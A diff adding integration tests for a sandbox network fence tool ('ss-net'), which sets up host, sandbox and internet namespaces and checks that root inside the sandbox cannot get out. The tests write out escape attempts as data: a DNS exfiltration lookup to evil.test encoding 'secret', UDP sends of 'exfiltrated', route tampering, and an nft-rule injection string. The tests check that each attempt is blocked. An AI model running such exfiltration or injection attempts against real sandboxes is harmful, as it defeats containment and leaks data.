@@ -19,6 +19,7 @@ teardown() {
   for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null || true; done
   for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
   [ -z "${NS:-}" ] || ip netns del "$NS" 2>/dev/null || true
+  [ -z "${NSES:-}" ] || teardown_world
 }
 
 # in_ns CMD...: runs CMD in the test's namespace when there is one.
@@ -286,4 +287,155 @@ EOF
     --upstream-dns "127.0.0.1:$DNS_PORT" --proxy "$PROXY"
   assert_failure 69
   [[ "$stderr" == "ss-net: error: cannot listen for the proxy on 127.0.0.1 port ${PROXY##*:}: Address already in use" ]]
+}
+
+# A host, a sandbox and the internet as three network namespaces of the test's own: the sandbox's
+# link to the host is a veth pair, the fence goes on the host's end, and root in the sandbox
+# tries every way out.
+fenced_world() {
+  H="ssnet-h-$$" S="ssnet-s-$$" I="ssnet-i-$$"
+  for ns in "$H" "$S" "$I"; do ip netns add "$ns"; ip -n "$ns" link set lo up; done
+  NSES=("$H" "$S" "$I")
+  ip -n "$H" link add sbx-h type veth peer name sbx-s netns "$S"
+  ip -n "$H" addr add 10.77.0.1/24 dev sbx-h
+  ip -n "$H" link set sbx-h up
+  ip -n "$S" addr add 10.77.0.2/24 dev sbx-s
+  ip -n "$S" link set sbx-s up
+  ip -n "$S" route add default via 10.77.0.1
+  ip -n "$H" link add inet-h type veth peer name inet-i netns "$I"
+  ip -n "$H" addr add 198.51.100.1/24 dev inet-h
+  ip -n "$H" link set inet-h up
+  ip -n "$I" addr add 198.51.100.2/24 dev inet-i
+  ip -n "$I" link set inet-i up
+  ip -n "$I" route add default via 198.51.100.1
+  # The sandbox's resolver is an outside one: the fence must catch lookups sent anywhere.
+  mkdir -p "/etc/netns/$S"
+  echo "nameserver 198.51.100.2" >"/etc/netns/$S/resolv.conf"
+  mkdir -p "$W/www"
+  echo "hello from outside" >"$W/www/index.html"
+  NS=$I background "$W/dns.port" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" 198.51.100.2 53 \
+    "$W/dns.queries" allowed.test=198.51.100.2 evil.test=198.51.100.2
+  local port
+  for port in 80 8080; do
+    NS=$I background "$W/http$port.ready" python3 -c '
+import functools, http.server, socketserver, sys
+socketserver.ThreadingTCPServer.allow_reuse_address = True
+h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
+s = socketserver.ThreadingTCPServer(("198.51.100.2", int(sys.argv[2])), h)
+print("ready", flush=True)
+s.serve_forever()' "$W/www" "$port"
+  done
+  # What reaches the internet by UDP, ICMP aside: a listener that writes what it gets.
+  NS=$I background "$W/udp.ready" python3 -c '
+import socket, sys
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.bind(("198.51.100.2", 9999))
+print("ready", flush=True)
+while True:
+    data, peer = u.recvfrom(4096)
+    open(sys.argv[1], "ab").write(data + b"\n")' "$W/udp.got"
+  ss net allow allowed.test --sandbox box >/dev/null
+  NS=$H background "$W/ready.json" "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
+    --upstream-dns 198.51.100.2 --proxy 10.77.0.1:0 --transparent 10.77.0.1:0 --dns 10.77.0.1:0
+  NET_PID=${PIDS[-1]}
+  port_of() { jq -r ".$1[0]" "$W/ready.json" | sed 's/.*://'; }
+  ip netns exec "$H" "$SS_BUILD_DIR/libexec/ss/ss-net" fence apply --sandbox box \
+    --interface sbx-h --gateway 10.77.0.1 --proxy-port "$(port_of proxy)" \
+    --transparent-port "$(port_of transparent)" --dns-port "$(port_of dns)"
+}
+
+teardown_world() {
+  local ns
+  for ns in "${NSES[@]}"; do ip netns del "$ns" 2>/dev/null || true; done
+  rm -rf "/etc/netns/${S:-none}"
+}
+
+sandbox() { ip netns exec "$S" "$@"; }
+
+@test "fence: the sandbox's only ways out are ss-net's; root inside cannot get around it" {
+  fenced_world
+  # Allowed, through the proxy variable and transparently (DNS through the fence, too).
+  run sandbox curl -sS --proxy http://10.77.0.1:3128 http://allowed.test/
+  assert_output "hello from outside"
+  run sandbox curl -sS http://allowed.test/
+  assert_output "hello from outside"
+  run sandbox dig +short allowed.test
+  assert_output 198.51.100.2
+  # Denied names: at once, with the reason; lookups of them go nowhere.
+  run sandbox curl -s --proxy http://10.77.0.1:3128 http://evil.test/
+  assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
+  run sandbox curl -s --resolve evil.test:80:198.51.100.2 http://evil.test/
+  assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
+  run sandbox dig @198.51.100.2 TXT c2VjcmV0.evil.test
+  assert_output --partial "status: NXDOMAIN"
+  run sandbox dig @8.8.8.8 +tcp evil.test
+  assert_output --partial "status: NXDOMAIN"
+  # Every other way out is refused at once: another TCP port, the host's own services, UDP,
+  # ICMP, IPv6, the proxy's own port named directly.
+  local start=$SECONDS
+  run sandbox curl -sS http://198.51.100.2:8080/
+  assert_failure 7
+  run sandbox curl -sS "http://10.77.0.1:$(port_of proxy)/"
+  assert_failure 7
+  run sandbox curl -sS http://10.77.0.1:22/
+  assert_failure 7
+  run sandbox ping -c 1 -W 2 198.51.100.2
+  assert_failure
+  run sandbox ping -c 1 -W 2 10.77.0.1
+  assert_failure
+  sandbox python3 -c '
+import socket
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for port in (9999, 53, 123, 443):
+    try: u.sendto(b"exfiltrated", ("198.51.100.2", port))
+    except OSError: pass'
+  run sandbox ping -6 -c 1 -W 2 "fe80::1%sbx-s"
+  assert_failure
+  # Root changes its routes and addresses: the packets still cross the fenced link.
+  sandbox ip route replace default dev sbx-s
+  sandbox ip addr add 198.51.100.77/24 dev sbx-s
+  run sandbox curl -sS http://198.51.100.2:8080/
+  assert_failure
+  run sandbox curl -sS --proxy http://10.77.0.1:3128 http://allowed.test/
+  assert_output "hello from outside"
+  [ $((SECONDS - start)) -lt 20 ]
+  sleep 0.5
+  assert_file_not_exists "$W/udp.got"
+  # The upstream resolver heard of allowed.test only (its A and AAAA records).
+  run grep -cv '^allowed.test ' "$W/dns.queries"
+  assert_output 0
+  teardown_world
+}
+
+@test "fence: when ss-net is gone the sandbox reaches nothing (fail closed); remove takes the rules away" {
+  fenced_world
+  run sandbox curl -sS http://allowed.test/
+  assert_output "hello from outside"
+  kill "$NET_PID"
+  wait "$NET_PID" || true
+  run sandbox curl -sS --proxy http://10.77.0.1:3128 http://allowed.test/
+  assert_failure 7
+  run sandbox curl -sS --resolve allowed.test:80:198.51.100.2 http://allowed.test/
+  assert_failure 7
+  run sandbox curl -sS http://198.51.100.2:8080/
+  assert_failure 7
+  ip netns exec "$H" nft list chain inet ss sandbox-box-in >/dev/null
+  ip netns exec "$H" "$SS_BUILD_DIR/libexec/ss/ss-net" fence remove --sandbox box
+  run ip netns exec "$H" nft list chain inet ss sandbox-box-in
+  assert_failure
+  # Removing what is not there is no error.
+  ip netns exec "$H" "$SS_BUILD_DIR/libexec/ss/ss-net" fence remove --sandbox box
+  teardown_world
+}
+
+@test "fence: what cannot be written into the rules is refused before nft sees it" {
+  run --separate-stderr ss net fence apply --sandbox box --interface 'x" accept' --gateway 10.0.0.1 \
+    --proxy-port 1 --transparent-port 2 --dns-port 3
+  assert_failure 65
+  [[ "$stderr" == *"not a network interface name"* ]]
+  run --separate-stderr ss net fence apply --sandbox box --interface br0 --gateway ::1 \
+    --proxy-port 1 --transparent-port 2 --dns-port 3
+  assert_failure 65
+  run --separate-stderr ss net fence apply --sandbox box --interface br0
+  assert_failure 64
 }
